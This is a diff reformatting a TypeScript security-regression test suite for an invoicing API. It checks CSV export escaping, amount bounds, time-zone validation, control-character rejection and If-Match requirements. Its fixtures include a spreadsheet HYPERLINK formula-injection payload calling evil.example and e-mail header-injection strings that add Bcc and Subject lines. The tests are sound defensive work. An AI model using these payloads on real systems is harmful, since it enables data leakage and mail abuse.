@@ -1,13 +1,20 @@
 import { SFNClient, StopExecutionCommand } from '@aws-sdk/client-sfn';
-import { DeleteCommand, DynamoDBDocumentClient, GetCommand, PutCommand, QueryCommand, TransactWriteCommand } from '@aws-sdk/lib-dynamodb';
+import {
+  DeleteCommand,
+  DynamoDBDocumentClient,
+  GetCommand,
+  PutCommand,
+  QueryCommand,
+  TransactWriteCommand,
+} from '@aws-sdk/lib-dynamodb';
 import { mockClient } from 'aws-sdk-client-mock';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { setClock } from '../../../functions/adapters/clock';
 import { customerItem, invoiceItem } from '../../../functions/adapters/db/items';
-import { transactionItem, StoredTransaction } from '../../../functions/adapters/db/transactions';
+import { StoredTransaction, transactionItem } from '../../../functions/adapters/db/transactions';
 import { fixedClock } from '../../../functions/core/dates';
 import { builtInPolicies } from '../../../functions/core/dunning/policy';
-import { Customer, Invoice, MAX_AMOUNT_CENTS } from '../../../functions/core/model';
+import { Customer, type Invoice, MAX_AMOUNT_CENTS } from '../../../functions/core/model';
 import { apiEnv, makeCaller, problemType } from './support';
 
 /** Holes found by probing the API (issue 11, point 10), each closed. */
@@ -18,9 +25,19 @@ const api = await import('../../../functions/api/handler');
 const call = makeCaller(api.handler as never, () => api.openApiDocument() as never);
 
 const inv = (id: string, over: Partial<Invoice> = {}): Invoice => ({
-  invoiceId: id, customerId: 'C1', amountCents: 10000, openCents: 10000, currency: 'EUR', issueDate: '2026-09-01', dueDate: '2026-10-01', status: 'open', version: 1, ...over,
+  invoiceId: id,
+  customerId: 'C1',
+  amountCents: 10000,
+  openCents: 10000,
+  currency: 'EUR',
+  issueDate: '2026-09-01',
+  dueDate: '2026-10-01',
+  status: 'open',
+  version: 1,
+  ...over,
 });
-const fields = (res: { json: { errors?: { in: string; field: string }[] } }) => (res.json.errors ?? []).map((e) => `${e.in}:${e.field}`);
+const fields = (res: { json: { errors?: { in: string; field: string }[] } }) =>
+  (res.json.errors ?? []).map((e) => `${e.in}:${e.field}`);
 
 beforeEach(() => {
   ddb.reset();
@@ -30,9 +47,13 @@ beforeEach(() => {
 });
 
 function givenLedger(customers: Customer[], invoices: Invoice[]) {
-  ddb.on(QueryCommand, { IndexName: 'gsi2', ExpressionAttributeValues: { ':pk': 'CUSTOMERS' } }).resolves({ Items: customers.map(customerItem) });
+  ddb
+    .on(QueryCommand, { IndexName: 'gsi2', ExpressionAttributeValues: { ':pk': 'CUSTOMERS' } })
+    .resolves({ Items: customers.map(customerItem) });
   for (const status of ['open', 'partially_paid', 'in_collection']) {
-    ddb.on(QueryCommand, { ExpressionAttributeValues: { ':pk': `INVSTATUS#${status}` } }).resolves({ Items: invoices.filter((i) => i.status === status).map(invoiceItem) });
+    ddb
+      .on(QueryCommand, { ExpressionAttributeValues: { ':pk': `INVSTATUS#${status}` } })
+      .resolves({ Items: invoices.filter((i) => i.status === status).map(invoiceItem) });
   }
 }
 
@@ -43,16 +64,23 @@ describe('the aged balance CSV, which the read-only role downloads', () => {
       names.map((name, i) => Customer.parse({ customerId: `C${i}`, name })),
       names.map((_, i) => inv(`F${i}`, { customerId: `C${i}`, openCents: 1000 * (i + 1) })),
     );
-    const res = await call('GET', '/reports/aged-balance', { as: 'readonly', query: { asOf: '2026-11-23', format: 'csv' } });
+    const res = await call('GET', '/reports/aged-balance', {
+      as: 'readonly',
+      query: { asOf: '2026-11-23', format: 'csv' },
+    });
     expect(res.status).toBe(200);
     const lines = res.text.split('\r\n');
     expect(lines).toContain(`C3,'-1+2,1,0.00,0.00,40.00,0.00,0.00,40.00`);
-    expect(lines).toContain(`C0,"'=HYPERLINK(""http://evil.example/?""&A1,""Détails"")",1,0.00,0.00,10.00,0.00,0.00,10.00`);
+    expect(lines).toContain(
+      `C0,"'=HYPERLINK(""http://evil.example/?""&A1,""Détails"")",1,0.00,0.00,10.00,0.00,0.00,10.00`,
+    );
     for (const line of lines.slice(1)) expect(line.split(',')[1] ?? '').not.toMatch(/^"?[=+\-@]/);
   });
 
   it('answers even when the amounts add up past 2^53 cents (it answered 500 to everyone)', async () => {
-    const many = Array.from({ length: 901 }, (_, i) => inv(`F${i}`, { amountCents: MAX_AMOUNT_CENTS, openCents: MAX_AMOUNT_CENTS }));
+    const many = Array.from({ length: 901 }, (_, i) =>
+      inv(`F${i}`, { amountCents: MAX_AMOUNT_CENTS, openCents: MAX_AMOUNT_CENTS }),
+    );
     givenLedger([Customer.parse({ customerId: 'C1', name: 'Big' })], many);
     const res = await call('GET', '/reports/aged-balance', { query: { asOf: '2026-11-23', format: 'csv' } });
     expect(res.status).toBe(200);
@@ -62,12 +90,27 @@ describe('the aged balance CSV, which the read-only role downloads', () => {
 
 describe('amounts are bounded at 10^13 cents (€100 bn) on every money input', () => {
   it.each([
-    ['POST', '/invoices', 'body:amountCents', { invoiceId: 'F9', customerId: 'C1', amountCents: 2 ** 53 - 1, issueDate: '2026-11-01', dueDate: '2026-11-30' }],
+    [
+      'POST',
+      '/invoices',
+      'body:amountCents',
+      { invoiceId: 'F9', customerId: 'C1', amountCents: 2 ** 53 - 1, issueDate: '2026-11-01', dueDate: '2026-11-30' },
+    ],
     ['POST', '/invoices/F1/write-off', 'body:amountCents', { amountCents: MAX_AMOUNT_CENTS + 1, reason: 'x' }],
     ['POST', '/invoices/F1/credit-note', 'body:amountCents', { creditNoteId: 'AV1', amountCents: 2 ** 53 - 1 }],
     ['POST', '/customers', 'body:creditLimitCents', { customerId: 'C9', name: 'X', creditLimitCents: 2 ** 53 - 1 }],
-    ['POST', '/transactions/T1/match', 'body:allocations.0.amountCents', { allocations: [{ invoiceId: 'F1', amountCents: 2 ** 53 - 1 }] }],
-    ['POST', '/transactions/T1/match', 'body:writeOffCents', { allocations: [{ invoiceId: 'F1', amountCents: 100 }], writeOffCents: MAX_AMOUNT_CENTS + 1 }],
+    [
+      'POST',
+      '/transactions/T1/match',
+      'body:allocations.0.amountCents',
+      { allocations: [{ invoiceId: 'F1', amountCents: 2 ** 53 - 1 }] },
+    ],
+    [
+      'POST',
+      '/transactions/T1/match',
+      'body:writeOffCents',
+      { allocations: [{ invoiceId: 'F1', amountCents: 100 }], writeOffCents: MAX_AMOUNT_CENTS + 1 },
+    ],
   ])('%s %s refuses an unrealistic amount naming %s', async (method, path, field, body) => {
     const res = await call(method, path, { body });
     expect(res.status).toBe(400);
@@ -86,36 +129,83 @@ describe('amounts are bounded at 10^13 cents (€100 bn) on every money input', 
 
 describe('a customer time zone is one the runtime knows', () => {
   it('refuses Mars/Olympus at creation, naming the field', async () => {
-    const res = await call('POST', '/customers', { body: { customerId: 'C9', name: 'Martien SARL', timeZone: 'Mars/Olympus' } });
+    const res = await call('POST', '/customers', {
+      body: { customerId: 'C9', name: 'Martien SARL', timeZone: 'Mars/Olympus' },
+    });
     expect(res.status).toBe(400);
     expect(fields(res)).toEqual(['body:timeZone']);
     expect(ddb.commandCalls(PutCommand)).toHaveLength(0);
   });
 
   it('refuses it in a change too', async () => {
-    ddb.on(GetCommand).resolves({ Item: customerItem(Customer.parse({ customerId: 'C1', name: 'Dupont', version: 1 })) });
-    const res = await call('PATCH', '/customers/C1', { body: { timeZone: 'Mars/Olympus' }, headers: { 'if-match': '"v1"' } });
+    ddb
+      .on(GetCommand)
+      .resolves({ Item: customerItem(Customer.parse({ customerId: 'C1', name: 'Dupont', version: 1 })) });
+    const res = await call('PATCH', '/customers/C1', {
+      body: { timeZone: 'Mars/Olympus' },
+      headers: { 'if-match': '"v1"' },
+    });
     expect(res.status).toBe(400);
     expect(fields(res)).toEqual(['body:timeZone']);
   });
 
   it('accepts an overseas zone', async () => {
     ddb.on(PutCommand).resolves({});
-    const res = await call('POST', '/customers', { body: { customerId: 'C9', name: 'Rhum SARL', timeZone: 'America/Martinique' } });
+    const res = await call('POST', '/customers', {
+      body: { customerId: 'C9', name: 'Rhum SARL', timeZone: 'America/Martinique' },
+    });
     expect(res.status).toBe(201);
   });
 });
 
 describe('ids and names never carry a line break into an e-mail subject', () => {
   it.each([
-    ['POST', '/invoices', 'body:invoiceId', { invoiceId: 'F1\r\nBcc: all@evil.example', customerId: 'C1', amountCents: 100, issueDate: '2026-11-01', dueDate: '2026-11-30' }],
-    ['POST', '/invoices', 'body:customerId', { invoiceId: 'F1', customerId: 'C1\u0000', amountCents: 100, issueDate: '2026-11-01', dueDate: '2026-11-30' }],
-    ['POST', '/invoices', 'body:customerName', { invoiceId: 'F1', customerId: 'C1', customerName: 'Dupont\r\nSubject: payé', amountCents: 100, issueDate: '2026-11-01', dueDate: '2026-11-30' }],
+    [
+      'POST',
+      '/invoices',
+      'body:invoiceId',
+      {
+        invoiceId: 'F1\r\nBcc: all@evil.example',
+        customerId: 'C1',
+        amountCents: 100,
+        issueDate: '2026-11-01',
+        dueDate: '2026-11-30',
+      },
+    ],
+    [
+      'POST',
+      '/invoices',
+      'body:customerId',
+      { invoiceId: 'F1', customerId: 'C1\u0000', amountCents: 100, issueDate: '2026-11-01', dueDate: '2026-11-30' },
+    ],
+    [
+      'POST',
+      '/invoices',
+      'body:customerName',
+      {
+        invoiceId: 'F1',
+        customerId: 'C1',
+        customerName: 'Dupont\r\nSubject: payé',
+        amountCents: 100,
+        issueDate: '2026-11-01',
+        dueDate: '2026-11-30',
+      },
+    ],
     ['POST', '/customers', 'body:customerId', { customerId: 'C\n9', name: 'X' }],
     ['POST', '/customers', 'body:name', { customerId: 'C9', name: 'X\u2028Y' }],
-    ['POST', '/customers', 'body:contacts.0.name', { customerId: 'C9', name: 'X', contacts: [{ name: 'Anne\nBcc: x', email: 'anne@pme.fr' }] }],
+    [
+      'POST',
+      '/customers',
+      'body:contacts.0.name',
+      { customerId: 'C9', name: 'X', contacts: [{ name: 'Anne\nBcc: x', email: 'anne@pme.fr' }] },
+    ],
     ['POST', '/invoices/F1/credit-note', 'body:creditNoteId', { creditNoteId: 'AV\t1', amountCents: 100 }],
-    ['POST', '/transactions/T1/match', 'body:allocations.0.invoiceId', { allocations: [{ invoiceId: 'F1\n', amountCents: 100 }] }],
+    [
+      'POST',
+      '/transactions/T1/match',
+      'body:allocations.0.invoiceId',
+      { allocations: [{ invoiceId: 'F1\n', amountCents: 100 }] },
+    ],
   ])('%s %s refuses a control character naming %s', async (method, path, field, body) => {
     const res = await call(method, path, { body });
     expect(res.status).toBe(400);
@@ -127,13 +217,16 @@ describe('ids and names never carry a line break into an e-mail subject', () => 
     ['/customers/C1%0A', 'path:customerId'],
     ['/transactions/T1%00/reject', 'path:transactionId'],
   ])('refuses a path id with a control character (%s)', async (path, field) => {
-    const res = await call(path.startsWith('/customers') ? 'GET' : 'POST', path, { body: path.endsWith('pause') ? {} : undefined });
+    const res = await call(path.startsWith('/customers') ? 'GET' : 'POST', path, {
+      body: path.endsWith('pause') ? {} : undefined,
+    });
     expect(res.status).toBe(400);
     expect(fields(res)).toContain(field);
   });
 
   it('an import row whose invoice id holds a line break is rejected with its reason', async () => {
-    const csv = 'invoice_id,customer_id,customer_name,customer_iban,amount,currency,issue_date,due_date\r\n"F1\r\nBcc: x",C1,Dupont,,10.00,EUR,2026-11-01,2026-11-30\r\n';
+    const csv =
+      'invoice_id,customer_id,customer_name,customer_iban,amount,currency,issue_date,due_date\r\n"F1\r\nBcc: x",C1,Dupont,,10.00,EUR,2026-11-01,2026-11-30\r\n';
     const res = await call('POST', '/invoices/import', { rawBody: csv, headers: { 'content-type': 'text/csv' } });
     expect(res.status).toBe(200);
     expect(res.json.rows[0]).toMatchObject({ line: 2, outcome: 'rejected' });
@@ -144,7 +237,12 @@ describe('ids and names never carry a line break into an e-mail subject', () => 
 describe('changes to versioned resources need If-Match', () => {
   const standard = builtInPolicies.find((p) => p.policyId === 'standard')!;
   const { policyId: _p, version: _v, ...policyBody } = standard;
-  const rates = { ecbMro: [{ from: '2026-06-10', rateBp: 200 }], ecbMroKnownThrough: '2026-07-01', legalRate: [], source: 'BCE communiqué du 5 juin 2026' };
+  const rates = {
+    ecbMro: [{ from: '2026-06-10', rateBp: 200 }],
+    ecbMroKnownThrough: '2026-07-01',
+    legalRate: [],
+    source: 'BCE communiqué du 5 juin 2026',
+  };
 
   it.each([
     ['PUT', '/customers/C1', { name: 'Dupont SA' }],
@@ -152,7 +250,9 @@ describe('changes to versioned resources need If-Match', () => {
     ['PUT', '/policies/standard', policyBody],
     ['PUT', '/rates', rates],
   ])('%s %s without If-Match is a 428 with a stable type, and changes nothing', async (method, path, body) => {
-    ddb.on(GetCommand).resolves({ Item: customerItem(Customer.parse({ customerId: 'C1', name: 'Dupont', version: 1 })) });
+    ddb
+      .on(GetCommand)
+      .resolves({ Item: customerItem(Customer.parse({ customerId: 'C1', name: 'Dupont', version: 1 })) });
     ddb.on(QueryCommand).resolves({ Items: [] });
     const res = await call(method, path, { body });
     expect(res.status).toBe(428);
@@ -164,14 +264,32 @@ describe('changes to versioned resources need If-Match', () => {
   });
 
   it('the OpenAPI document says so: If-Match required and a 428 answer on each', () => {
-    const doc = api.openApiDocument() as { paths: Record<string, Record<string, { parameters?: { name: string; in: string; required: boolean }[]; responses: Record<string, unknown> }>> };
-    for (const [path, method] of [['/customers/{customerId}', 'put'], ['/customers/{customerId}', 'patch'], ['/policies/{policyId}', 'put'], ['/rates', 'put']]) {
+    const doc = api.openApiDocument() as {
+      paths: Record<
+        string,
+        Record<
+          string,
+          { parameters?: { name: string; in: string; required: boolean }[]; responses: Record<string, unknown> }
+        >
+      >;
+    };
+    for (const [path, method] of [
+      ['/customers/{customerId}', 'put'],
+      ['/customers/{customerId}', 'patch'],
+      ['/policies/{policyId}', 'put'],
+      ['/rates', 'put'],
+    ]) {
       const op = doc.paths[path][method];
-      expect(op.parameters?.find((p) => p.name === 'If-Match'), `${method} ${path}`).toMatchObject({ in: 'header', required: true });
+      expect(
+        op.parameters?.find((p) => p.name === 'If-Match'),
+        `${method} ${path}`,
+      ).toMatchObject({ in: 'header', required: true });
       expect(Object.keys(op.responses), `${method} ${path}`).toContain('428');
     }
     // Commands on an invoice are applied to its current version under a conditional write: If-Match stays optional.
-    expect(doc.paths['/invoices/{invoiceId}/pause'].post.parameters?.find((p) => p.name === 'If-Match')).toMatchObject({ required: false });
+    expect(doc.paths['/invoices/{invoiceId}/pause'].post.parameters?.find((p) => p.name === 'If-Match')).toMatchObject({
+      required: false,
+    });
   });
 
   it('If-Match: * replaces whatever is current (the rate table before its first save has no ETag)', async () => {
@@ -184,7 +302,15 @@ describe('changes to versioned resources need If-Match', () => {
 
 describe('a manual match', () => {
   it('listing the same invoice twice is a 400 naming the second entry, before anything is read or written', async () => {
-    const res = await call('POST', '/transactions/T1/match', { body: { allocations: [{ invoiceId: 'F1', amountCents: 5000 }, { invoiceId: 'F2', amountCents: 100 }, { invoiceId: 'F1', amountCents: 5000 }] } });
+    const res = await call('POST', '/transactions/T1/match', {
+      body: {
+        allocations: [
+          { invoiceId: 'F1', amountCents: 5000 },
+          { invoiceId: 'F2', amountCents: 100 },
+          { invoiceId: 'F1', amountCents: 5000 },
+        ],
+      },
+    });
     expect(res.status).toBe(400);
     expect(fields(res)).toEqual(['body:allocations.2.invoiceId']);
     expect(res.json.detail).toContain('already listed at allocations.0');
@@ -194,23 +320,53 @@ describe('a manual match', () => {
 
   it('still applies a match listing distinct invoices', async () => {
     const txn = StoredTransaction.parse({
-      transactionId: 'T1', statementChecksum: 'abc', account: { iban: 'FR7630006000011234567890189' }, status: 'suggested', version: 1, ingestedAt: '2026-11-02T06:00:00.000Z',
-      index: 0, bookingDate: '2026-11-02', amountCents: 10000, currency: 'EUR', label: 'VIR SEPA DUPONT', remittance: {},
+      transactionId: 'T1',
+      statementChecksum: 'abc',
+      account: { iban: 'FR7630006000011234567890189' },
+      status: 'suggested',
+      version: 1,
+      ingestedAt: '2026-11-02T06:00:00.000Z',
+      index: 0,
+      bookingDate: '2026-11-02',
+      amountCents: 10000,
+      currency: 'EUR',
+      label: 'VIR SEPA DUPONT',
+      remittance: {},
       match: { transactionId: 'T1', status: 'suggested', confidence: 0.7, reasons: [], suggestions: [] },
     });
     ddb.on(GetCommand, { Key: { pk: 'TXN#T1', sk: 'TXN' } }).resolves({ Item: transactionItem(txn) });
-    ddb.on(GetCommand, { Key: { pk: 'INVOICE#F1', sk: 'INVOICE' } }).resolves({ Item: invoiceItem(inv('F1', { amountCents: 5000, openCents: 5000 })) });
-    ddb.on(GetCommand, { Key: { pk: 'INVOICE#F2', sk: 'INVOICE' } }).resolves({ Item: invoiceItem(inv('F2', { amountCents: 5000, openCents: 5000 })) });
+    ddb
+      .on(GetCommand, { Key: { pk: 'INVOICE#F1', sk: 'INVOICE' } })
+      .resolves({ Item: invoiceItem(inv('F1', { amountCents: 5000, openCents: 5000 })) });
+    ddb
+      .on(GetCommand, { Key: { pk: 'INVOICE#F2', sk: 'INVOICE' } })
+      .resolves({ Item: invoiceItem(inv('F2', { amountCents: 5000, openCents: 5000 })) });
     ddb.on(TransactWriteCommand).resolves({});
     ddb.on(DeleteCommand).resolves({});
-    const res = await call('POST', '/transactions/T1/match', { body: { allocations: [{ invoiceId: 'F1', amountCents: 5000 }, { invoiceId: 'F2', amountCents: 5000 }] } });
+    const res = await call('POST', '/transactions/T1/match', {
+      body: {
+        allocations: [
+          { invoiceId: 'F1', amountCents: 5000 },
+          { invoiceId: 'F2', amountCents: 5000 },
+        ],
+      },
+    });
     expect(res.status).toBe(200);
   });
 });
 
 describe('other free text and dates that reach workflows and e-mails', () => {
   it('an invoice PDF key (linked from reminders) cannot hold a control character', async () => {
-    const res = await call('POST', '/invoices', { body: { invoiceId: 'F9', customerId: 'C1', amountCents: 100, issueDate: '2026-11-01', dueDate: '2026-11-30', pdfKey: 'invoices/F9\u0000.pdf' } });
+    const res = await call('POST', '/invoices', {
+      body: {
+        invoiceId: 'F9',
+        customerId: 'C1',
+        amountCents: 100,
+        issueDate: '2026-11-01',
+        dueDate: '2026-11-30',
+        pdfKey: 'invoices/F9\u0000.pdf',
+      },
+    });
     expect(res.status).toBe(400);
     expect(fields(res)).toEqual(['body:pdfKey']);
   });
